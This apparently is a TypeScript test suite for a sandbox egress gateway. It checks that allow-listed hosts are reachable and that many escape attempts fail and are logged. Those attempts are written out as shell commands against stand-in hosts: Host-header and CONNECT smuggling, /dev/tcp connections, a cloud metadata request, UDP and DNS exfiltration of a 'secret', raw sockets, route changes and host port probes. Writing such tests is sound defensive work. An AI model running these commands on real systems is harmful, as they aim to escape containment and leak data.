import type { AuditLine } from "../../gateway/audit-line.ts";
import { eventually, useProject } from "./harness.ts";
import type { Place } from "./internet/sites.ts";

const project = useProject();
const { engine, internet } = project;
const acme = project.client("acme", {
  egress: {
    allow: [
      ...["allowed.test", "*.wild.test", "rotating.test", "moving.test"],
      { host: "git.test", ports: [22, 8443] },
      // Their owners point them inside.
      ...["lan.test", "metadata.test", "loopback.test", "mixed.test"],
    ],
  },
});

beforeAll(() => acme.mustUp());

describe("an allowed name", () => {
  test("is reached over TLS and over plain HTTP, end to end with the site itself", async () => {
    expect(await acme.curl("https://allowed.test/")).toMatchObject({
      code: 0,
      stdout: "site=allowed.test host=allowed.test by=tls\n",
    });
    expect(await acme.curl("http://allowed.test/")).toMatchObject({
      code: 0,
      stdout: expect.stringContaining("host=allowed.test by=http"),
    });
  });

  test("is reached by programs that know nothing of the sandbox", async () => {
    const node = `fetch("https://allowed.test/").then((r) => r.text()).then(console.log)`;
    expect(await acme.exec(`node -e '${node}'`)).toMatchObject({
      code: 0,
      stdout: expect.stringContaining("site=allowed.test"),
    });
    const python = `import urllib.request as u; print(u.urlopen("https://allowed.test/").read().decode())`;
    expect(await acme.exec(`python3 -c '${python}'`)).toMatchObject({
      code: 0,
      stdout: expect.stringContaining("site=allowed.test"),
    });
  });

  test("with a wildcard means every name below it, and not the name itself", async () => {
    expect(await acme.curl("https://a.wild.test/")).toMatchObject({
      code: 0,
      stdout: expect.stringContaining("site=a.wild.test"),
    });
    expect((await acme.curl("https://wild.test/")).code).not.toBe(0);
    expect((await acme.curl("https://notwild.test/")).code).not.toBe(0);
  });

  test("with a port of its own is reached there, and nowhere else", async () => {
    expect(await acme.exec("exec 3<>/dev/tcp/git.test/22; head -n 1 <&3")).toMatchObject({
      code: 0,
      stdout: expect.stringContaining("SSH-2.0-fake_internet"),
    });
    expect(await acme.curl("https://git.test:8443/")).toMatchObject({
      code: 0,
      stdout: expect.stringContaining("site=git.test"),
    });
    expect((await acme.curl("https://git.test/")).code).not.toBe(0);
    expect((await acme.curl("https://allowed.test:8443/")).code).not.toBe(0);
    expect(
      (await acme.exec("timeout 5 bash -c 'exec 3<>/dev/tcp/allowed.test/22; head -n 1 <&3'")).stdout,
    ).not.toContain("SSH");
  });

  test("is reached while its addresses rotate, and after it has moved", async () => {
    const answers = await Promise.all(Array.from({ length: 6 }, () => acme.curl("https://rotating.test/")));
    expect(answers.map(({ code }) => code)).toEqual([0, 0, 0, 0, 0, 0]);
    const site = async () => (await acme.curl("http://moving.test/")).stdout;
    expect(await site()).toContain(`site=${internet.addresses.first}`);
    await internet.move("moving.test", "second");
    await eventually(site, (text) => text.includes(`site=${internet.addresses.second}`));
  });

  test.each(["lan.test", "metadata.test", "loopback.test"])(
    "that its owner points inside is refused: %s",
    async (name) => {
      expect((await acme.curl(`http://${name}/`)).stdout).not.toContain("site=");
      expect((await acme.curl(`https://${name}/`)).code).not.toBe(0);
    },
  );

  test("that answers with a public and a private address never leads to the private one", async () => {
    for (let i = 0; i < 4; i++)
      expect((await acme.curl("http://mixed.test/")).stdout).not.toContain(`site=${internet.addresses.printer}`);
  });
});

describe("nothing leaves by", () => {
  const places: Place[] = ["evil", "evil6", "printer", "metadata"];
  let before: number[];
  const packets = async () => Promise.all(places.map(async (place) => (await internet.arrived(place)).packets));

  beforeAll(async () => {
    before = await packets();
  });
  afterEach(async () => {
    expect(await packets()).toEqual(before);
  });

  const { evil, evil6, printer, metadata } = internet.addresses;

  test.each([
    ["an unlisted name", "curl -sS -m 5 https://evil.test/"],
    ["an unlisted name on the address of an allowed one", "curl -sS -m 5 https://neighbour.test/"],
    ["a raw address over TLS", `curl -sSk -m 3 https://${evil}/`],
    ["a raw address over HTTP", `curl -sS -m 3 http://${evil}/`],
    [
      "an allowed name that the agent itself points elsewhere",
      `curl -sSk -m 3 --resolve allowed.test:443:${evil} https://allowed.test/`,
    ],
    [
      "an unlisted name sent to the gateway in the handshake",
      `curl -sSk -m 5 --connect-to evil.test:443:allowed.test:443 https://evil.test/`,
    ],
    [
      "an unlisted name sent to the gateway in the Host header",
      "curl -sS -m 5 -H 'Host: evil.test' http://allowed.test/ | grep site=",
    ],
    [
      "a neighbour's name sent to the gateway in the Host header",
      "curl -sS -m 5 -H 'Host: neighbour.test' http://allowed.test/ | grep site=",
    ],
    [
      "a handshake without a name",
      `address=$(getent hosts allowed.test | cut -d' ' -f1); curl -sSk -m 5 https://$address/`,
    ],
    ["the gateway as a proxy", "curl -sS -m 5 -x http://allowed.test:80 http://evil.test/ | grep site="],
    ["CONNECT through the gateway", "curl -sSk -m 5 -p -x http://allowed.test:80 https://evil.test/"],
    ["SSH to a raw address", `timeout 3 bash -c 'head -n 1 < /dev/tcp/${evil}/22'`],
    ["TCP to a raw address's DNS port", `timeout 3 bash -c 'head -n 1 < /dev/tcp/${evil}/53'`],
    ["IPv6", `curl -gsSk -m 3 "https://[${evil6}]/"`],
    ["the LAN", `curl -sS -m 3 http://${printer}/`],
    ["the metadata address", `curl -sS -m 3 http://${metadata}/latest/meta-data/`],
    [
      "a raw socket",
      `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"x"*8, ("${evil}", 0))'`,
    ],
    ["a route of its own", `ip route add ${evil} dev eth0`],
    ["a user namespace of its own", `unshare -Urn true && unshare -Ur ip route add ${evil} dev eth0`],
  ])("%s", async (_way, script) => {
    const { code, stdout } = await acme.exec(script);
    expect({ failed: code !== 0, stdout: stdout.match(/site=.*/)?.[0] }).toEqual({ failed: true, stdout: undefined });
  });

  test("UDP, fragments of it, and what is no TCP at all", async () => {
    for (const port of [53, 123, 443, 9999])
      await acme.exec(`echo secret > /dev/udp/${evil}/${port}; head -c 4000 /dev/zero > /dev/udp/${evil}/${port}`);
    await acme.exec(`ping -c 1 -W 1 ${evil}`);
  });

  test("questions to a resolver, its own or another", async () => {
    // Nobody else of this run asks for names of this label.
    const secret = acme.name;
    await acme.exec(`for name in evil allowed; do getent hosts ${secret}.$name.test; done`);
    const question = Buffer.concat([
      Buffer.from("000101000001000000000000", "hex"),
      ...[secret, "evil", "test"].map((label) => Buffer.from(`${String.fromCharCode(label.length)}${label}`)),
      Buffer.from("0000010001", "hex"),
    ]).toString("hex");
    const query = `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex("${question}"), ("${internet.dns}", 53)); print(s.recv(512))`;
    expect((await acme.exec(`python3 -c '${query}'`)).code).not.toBe(0);
    for (const name of ["evil", "allowed"]) expect(await internet.asked(`${secret}.${name}.test`)).toBe(0);
  });

  test("the host, by any of its addresses or by the engine's own", async () => {
    const inner = (await engine.inspect(`${acme.name}-inner`)).IPAM.Config[0].Subnet.replace("0/24", "");
    const outer = (await engine.inspect(`${acme.name}-outer`)).IPAM.Config[0].Subnet.replace("0/24", "");
    const { code, stdout } = await acme.exec(`
      for address in ${inner}1 ${outer}1 ${outer}2 host.docker.internal 172.17.0.1; do
        for port in 22 80 443 2375 5355; do timeout 1 bash -c "exec 3<>/dev/tcp/$address/$port" 2>/dev/null && echo "open $address:$port"; done
      done; true`);
    expect({ code, stdout }).toEqual({ code: 0, stdout: "" });
  });
});

describe("every connection is told", () => {
  test("in one line of JSON each, the refused ones as well", async () => {
    await acme.curl("https://allowed.test/");
    await acme.exec(
      "getent hosts refused.evil.test; curl -sSk -m 5 --connect-to evil.test:443:allowed.test:443 https://evil.test/",
    );
    const about = (name: string) => (lines: AuditLine[]) => lines.some((line) => line.name === name);
    const seen = await eventually(
      () => acme.audit(),
      (list) => about("allowed.test")(list) && about("evil.test")(list) && about("refused.evil.test")(list),
    );
    expect(seen.find(({ name }) => name === "allowed.test")).toMatchObject({ verdict: "allow" });
    expect(seen.find(({ name, kind }) => name === "evil.test" && kind !== "dns")).not.toMatchObject({
      verdict: "allow",
    });
  });
});
